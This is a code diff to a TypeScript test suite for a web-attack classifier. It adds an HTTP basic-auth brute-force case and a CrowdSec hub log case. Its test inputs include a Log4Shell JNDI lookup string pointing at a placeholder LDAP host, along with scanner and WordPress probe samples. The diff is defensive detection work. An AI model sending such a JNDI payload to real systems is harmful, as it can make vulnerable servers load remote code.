@@ -22,6 +22,7 @@ describe('classifyRequest', () => {
     expect(classifyRequest(req('/', '${jndi:ldap://198.51.100.1/a}', 200))).toEqual(['jndi']);
     expect(classifyRequest(req('/', 'Mozilla/5.00 (Nikto/2.1.5)', 200))).toEqual(['scanner']);
     expect(classifyRequest(req('/wp-login.php'))).toEqual(['cms-probe']);
+    expect(classifyRequest(req('/client', 'Mozilla/5.0', 401))).toEqual(['http-auth']);
     // The site's own WordPress answering 200 is not a probe.
     expect(classifyRequest(req('/wp-admin/', 'Mozilla/5.0', 200))).toEqual([]);
     expect(classifyRequest(req('/articles/selection-from-the-archive?page=2', 'Mozilla/5.0', 200))).toEqual(
@@ -33,8 +34,9 @@ describe('classifyRequest', () => {
 
 const HUB = path.join(SHARED_DATASETS, 'crowdsec-hub');
 describe.skipIf(!existsSync(HUB))('web-attack on the CrowdSec hub test cases (shared datasets)', () => {
-  // Expected attackers from each case's scenario.assert. Not covered: http-dos-* (request
-  // floods, not attacks on the application) and nginx-http-generic-bf (nginx error-log lines).
+  // Expected attackers from each case's scenario.assert. The http-dos-* cases are request floods:
+  // http-flood.test.ts. nginx-http-generic-bf: nginx error-log basic-auth failures to `localhost`
+  // and access-log 401s to the unnamed server, two findings as CrowdSec's two results.
   const cases: [string, string, string[], string][] = [
     ['apache-http-probing', 'apache-http-probing.log', ['172.17.0.1'], '4xx-burst'],
     ['apache_log4j2_cve-2021-44228', 'log4j2.log', ['192.168.1.3', '192.168.1.4', '192.168.1.5'], 'jndi'],
@@ -44,6 +46,7 @@ describe.skipIf(!existsSync(HUB))('web-attack on the CrowdSec hub test cases (sh
     ['nginx-http-sensitive-files', 'nginx-http-sensitive-files.log', ['127.0.0.1'], 'sensitive-file'],
     ['nginx-http-sqli-probing', 'nginx-http-sqli-probing.log', ['127.0.0.1'], 'sqli'],
     ['nginx-http-xss-probing', 'nginx-http-xss-probing.log', ['127.0.0.1'], 'xss'],
+    ['nginx-http-generic-bf', 'nginx-http-generic-bf.log', ['127.0.0.1', '127.0.0.1'], 'http-auth'],
   ];
   it.each(cases)('%s gives the expected attacker', async (name, _file, want, category) => {
     const { findings } = await detectFiles([path.join(HUB, name)]);
